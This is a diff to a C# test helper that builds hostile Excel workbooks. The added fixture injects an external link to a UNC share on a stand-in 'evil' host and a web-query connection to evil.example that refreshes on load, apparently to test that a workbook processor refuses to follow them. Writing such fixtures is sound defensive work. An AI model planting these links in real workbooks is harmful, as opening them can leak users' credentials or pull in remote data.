@@ -71,6 +71,18 @@ public static class HostileWorkbooks
     }, ("xl/vbaProject.bin", RandomBytes(4096)));
 
     // Only the VBA project, content types untouched (a renamed .xlsm).
+    // A link to another workbook and a data connection to a web query, as Excel saves them (never to be followed).
+    public static byte[] WithExternalLinksAndConnections(byte[] workbook) => Rewrite(workbook, (_, content) => content,
+        ("xl/externalLinks/externalLink1.xml", Encoding.UTF8.GetBytes(
+            "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><externalBook r:id=\"rId1\" " +
+            "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"/></externalLink>")),
+        ("xl/externalLinks/_rels/externalLink1.xml.rels", Encoding.UTF8.GetBytes(
+            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" " +
+            "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath\" Target=\"file:///\\\\evil\\share\\budget.xlsx\" TargetMode=\"External\"/></Relationships>")),
+        ("xl/connections.xml", Encoding.UTF8.GetBytes(
+            "<connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><connection id=\"1\" name=\"q\" type=\"4\" refreshOnLoad=\"1\">" +
+            "<webPr url=\"https://evil.example/data\"/></connection></connections>")));
+
     public static byte[] WithHiddenMacros(byte[] workbook) => Rewrite(workbook, (_, content) => content, ("xl/vbaProject.bin", RandomBytes(4096)));
 
     public static byte[] WithDtd(byte[] workbook) => Rewrite(workbook, (name, content) => name == "xl/workbook.xml"
